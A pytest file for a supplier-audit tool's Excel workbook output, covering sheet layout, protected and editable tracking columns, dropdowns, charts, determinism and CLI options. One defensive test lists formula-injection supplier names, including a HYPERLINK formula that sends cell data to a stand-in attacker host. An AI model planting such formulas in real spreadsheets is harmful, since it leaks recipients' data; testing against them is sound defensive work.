"""The remediation workbook (-o xlsx): sheets, tracking columns, protection, safety and determinism."""

from __future__ import annotations

import csv
import re
import warnings
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from auditor.audit import AuditResult, run_audit
from auditor.cli import app
from auditor.render import workbook

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_suppliers" / "sample_suppliers.xlsx"
AUDIT_DATE = date(2026, 11, 27)
SHEETS = ["Summary", "Suppliers", "Findings", "Not evaluable", "Data quality", "Rules"]


def write_csv(path: Path, rows: list[dict]) -> Path:
    """A supplier CSV with the union of the rows' columns."""
    columns = list(dict.fromkeys(k for row in rows for k in row))
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def audit_to_workbook(inputs: list[Path], out: Path, audit_date: date = AUDIT_DATE) -> AuditResult:
    result = run_audit(inputs)
    result.extra["audit_date"] = audit_date
    workbook.render(result, out)
    return result


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> tuple[AuditResult, Path]:
    out = tmp_path_factory.mktemp("wb") / "audit.xlsx"
    return audit_to_workbook([SAMPLE], out), out


def header_index(ws) -> dict[str, int]:
    return {cell.value: cell.column for cell in ws[1]}


def test_workbook_has_every_sheet_in_reading_order(sample):
    _, path = sample
    assert openpyxl.load_workbook(path).sheetnames == SHEETS


def test_findings_sheet_has_one_row_per_finding_keyed_by_fingerprint(sample):
    result, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    ids = [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(ids) == sorted(result.findings.get_column("fingerprint").to_list())


def test_finding_id_column_is_hidden_and_locked_on_a_protected_sheet(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    assert ws["A1"].value == "Finding ID"
    assert ws.column_dimensions["A"].hidden
    assert ws.protection.sheet
    assert ws["A2"].protection.locked and ws["I2"].protection.locked


def test_status_owner_due_date_and_notes_are_editable_even_when_empty(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    col = header_index(ws)
    for name in ("Status", "Owner", "Due date", "Notes"):
        for row in (2, ws.max_row):
            assert ws.cell(row, col[name]).protection.locked is False, (name, row)


def test_filtering_and_sorting_stay_allowed_on_the_protected_sheet(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    assert ws.protection.autoFilter is False and ws.protection.sort is False
    assert ws.auto_filter.ref.startswith("A1:")


def test_status_dropdown_offers_the_tracking_statuses_on_every_finding_row(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    status_letter = openpyxl.utils.get_column_letter(header_index(ws)["Status"])
    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert len(lists) == 1
    choices = lists[0].formula1.strip('"').split(",")
    assert choices[:6] == ["open", "in progress", "remediated", "verified", "accepted risk", "false positive"]
    assert str(lists[0].sqref) == f"{status_letter}2:{status_letter}{ws.max_row}"


def test_due_date_is_audit_date_plus_the_rules_due_days(sample):
    result, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    col = header_index(ws)
    due_days = {c.id: c.rule.due_days for c in result.rules}
    for row in ws.iter_rows(min_row=2, max_row=20, values_only=True):
        due = row[col["Due date"] - 1]
        assert due.date() == AUDIT_DATE + timedelta(days=due_days[row[col["Rule"] - 1]])


def test_findings_carry_their_citation_and_remediation(sample):
    result, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    col = header_index(ws)
    row = [c.value for c in ws[2]]
    rule = next(c for c in result.rules if c.id == row[col["Rule"] - 1])
    assert f"¶{rule.rule.cite[0].paragraph}" in row[col["Citation"] - 1]
    assert " ".join(rule.rule.cite[0].quote.split()) in row[col["Citation"] - 1]
    assert row[col["Remediation"] - 1].startswith(rule.rule.remediation.split()[0])


def test_formula_like_supplier_name_in_the_sample_stays_text(sample):
    _, path = sample
    wb = openpyxl.load_workbook(path)
    names = [c for c in wb["Suppliers"]["C"] if c.value and str(c.value).startswith("=HYPERLINK")]
    assert names and all(c.data_type == "s" for c in names)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in archive.read(n).decode() for n in sheets)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"])
def test_text_from_input_files_is_never_a_formula(tmp_path, name):
    source = write_csv(tmp_path / "s.csv", [{"supplier_id": "S1", "supplier_name": name, "workers_paid_recruitment_fees": "yes"}])
    out = tmp_path / "w.xlsx"
    audit_to_workbook([source], out)
    wb = openpyxl.load_workbook(out)
    for sheet in ("Suppliers", "Findings"):
        matching = [c for row in wb[sheet].iter_rows(max_col=3) for c in row if c.value in (name, name.strip())]
        assert matching, sheet
        assert all(c.data_type == "s" for c in matching)
    with zipfile.ZipFile(out) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_control_characters_in_input_do_not_break_the_workbook(tmp_path):
    source = write_csv(tmp_path / "s.csv", [{"supplier_id": "S1", "supplier_name": "Bad\x0bName\x01", "workers_paid_recruitment_fees": "yes"}])
    out = tmp_path / "w.xlsx"
    audit_to_workbook([source], out)
    names = [c.value for c in openpyxl.load_workbook(out)["Findings"]["C"]]
    assert "Bad\ufffdName\ufffd" in names


def test_same_input_and_audit_date_give_the_same_bytes(tmp_path, sample):
    _, first = sample
    second = tmp_path / "again.xlsx"
    audit_to_workbook([SAMPLE], second)
    assert first.read_bytes() == second.read_bytes()


def test_writing_the_sheets_a_few_rows_at_a_time_gives_the_same_bytes(tmp_path, sample, monkeypatch):
    # Rows are made into text TABLE_BATCH at a time to bound memory; row heights, links and order must not notice.
    result, whole = sample
    assert result.findings.height > 3 and result.evaluation.not_evaluable.height > 3
    monkeypatch.setattr(workbook, "TABLE_BATCH", 3)
    batched = tmp_path / "batched.xlsx"
    workbook.render(result, batched)
    assert batched.read_bytes() == whole.read_bytes()


def test_the_writer_tells_how_many_rows_of_its_long_sheets_are_written(tmp_path, sample, monkeypatch):
    result, whole = sample
    monkeypatch.setattr(workbook, "TABLE_BATCH", 50)
    ticks: list[tuple[int, int]] = []
    out = tmp_path / "ticked.xlsx"
    workbook.render(result, out, tick=lambda done, total: ticks.append((done, total)))
    total = result.suppliers.height + result.findings.height + result.evaluation.not_evaluable.height
    assert ticks[0] == (0, total) and ticks[-1] == (total, total)
    done = [d for d, _ in ticks]
    assert done == sorted(done) and len(set(done)) == len(done) > 3  # a tick per batch, always forward
    assert out.read_bytes() == whole.read_bytes()  # reporting progress changes nothing in the file


def test_the_workbook_gets_the_permissions_any_file_the_user_writes_has(tmp_path, sample):
    import os

    result, _ = sample
    umask = os.umask(0o022)
    try:
        workbook.render(result, tmp_path / "shared.xlsx")
    finally:
        os.umask(umask)
    assert (tmp_path / "shared.xlsx").stat().st_mode & 0o777 == 0o644  # not 0600: it is meant to be handed on
    assert [p.name for p in tmp_path.iterdir()] == ["shared.xlsx"]  # no temporary file left beside it


def test_summary_records_the_run_and_charts_tiers_and_categories(sample):
    result, path = sample
    ws = openpyxl.load_workbook(path)["Summary"]
    values = {row[0]: row[1:] for row in ws.iter_rows(values_only=True) if row and row[0]}
    assert values["Audit date"][0].date() == AUDIT_DATE
    assert values["  sha256"][0] == result.loaded.inputs[0].sha256
    assert values["Rows read"][0] == result.loaded.rows_read
    rows = [row for row in ws.iter_rows(values_only=True)]
    tiers_at = next(i for i, row in enumerate(rows) if row[0] == "Suppliers by risk tier")
    assert {row[0]: row[1] for row in rows[tiers_at + 1: tiers_at + 5]} == result.summary()["suppliers_by_tier"]
    with zipfile.ZipFile(path) as archive:
        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
        assert len(charts) == 2
        assert "Suppliers by risk tier" in archive.read(charts[0]).decode()
        assert "Findings by category" in archive.read(charts[1]).decode()


def test_each_supplier_links_to_its_first_finding(sample):
    result, path = sample
    wb = openpyxl.load_workbook(path)
    suppliers, findings = wb["Suppliers"], wb["Findings"]
    linked = 0
    for row in suppliers.iter_rows(min_row=2):
        link = row[8].hyperlink
        if link is None:
            assert row[8].value == 0
            continue
        target = re.fullmatch(r"'Findings'!B(\d+)", link.location)
        assert target and findings.cell(int(target.group(1)), 2).value == row[1].value
        linked += 1
    assert linked == result.findings.get_column("supplier_id").n_unique()


def test_not_evaluable_sheet_says_what_to_ask_each_supplier_for(sample):
    result, path = sample
    frame = pl.read_excel(path, sheet_name="Not evaluable")
    assert frame.height == result.evaluation.not_evaluable.height
    ask = {c.id: " ".join(c.rule.ask_for.split()) for c in result.rules}
    for row in frame.head(10).iter_rows(named=True):
        assert row["What to ask the supplier for"] == ask[row["Rule"]]


def test_data_quality_and_rules_sheets_list_every_entry(sample):
    result, path = sample
    assert pl.read_excel(path, sheet_name="Data quality").height == result.loaded.data_quality.height
    rules = pl.read_excel(path, sheet_name="Rules")
    assert rules.get_column("Rule").to_list() == [c.id for c in result.rules]


def test_polars_and_openpyxl_read_the_workbook_without_warnings(sample):
    result, path = sample
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        openpyxl.load_workbook(path)
    frame = pl.read_excel(path, sheet_name="Findings")
    assert frame.height == result.findings.height
    assert set(frame.get_column("Status").unique()) == {"open"}


def test_cli_writes_the_workbook_with_the_given_audit_date(tmp_path):
    out = tmp_path / "audit.xlsx"
    run = CliRunner().invoke(app, ["audit", str(SAMPLE), "--audit-date", "2027-01-31", "-o", f"xlsx:{out}"])
    assert run.exit_code == 1, run.output
    summary = {row[0]: row[1] for row in openpyxl.load_workbook(out)["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Audit date"] == datetime(2027, 1, 31)


def test_cli_rejects_a_malformed_audit_date(tmp_path):
    run = CliRunner().invoke(app, ["audit", str(SAMPLE), "--audit-date", "31/01/2027", "-o", f"xlsx:{tmp_path / 'a.xlsx'}"])
    assert run.exit_code == 2
    assert not (tmp_path / "a.xlsx").exists()


def test_xlsx_output_needs_a_path():
    run = CliRunner().invoke(app, ["audit", str(SAMPLE), "-o", "xlsx"])
    assert run.exit_code == 2


def test_sheets_print_landscape_fit_to_one_page_wide(sample):
    _, path = sample
    wb = openpyxl.load_workbook(path)
    for name in SHEETS:
        ws = wb[name]
        assert ws.page_setup.orientation == "landscape", name
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, name


def test_rows_with_long_wrapped_text_are_tall_enough_to_show_it(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    heights = [ws.row_dimensions[r].height for r in range(2, ws.max_row + 1)]
    assert all(h and h >= 30 for h in heights)  # every finding quotes a citation longer than one line


def test_severity_is_coloured_by_conditional_formatting(sample):
    _, path = sample
    ws = openpyxl.load_workbook(path)["Findings"]
    severity = openpyxl.utils.get_column_letter(header_index(ws)["Severity"])
    rules = [r for rng in ws.conditional_formatting for r in rng.rules if str(rng.sqref).startswith(severity)]
    assert sorted(r.formula[0] for r in rules) == sorted(f'"{s}"' for s in ("critical", "high", "medium", "low"))
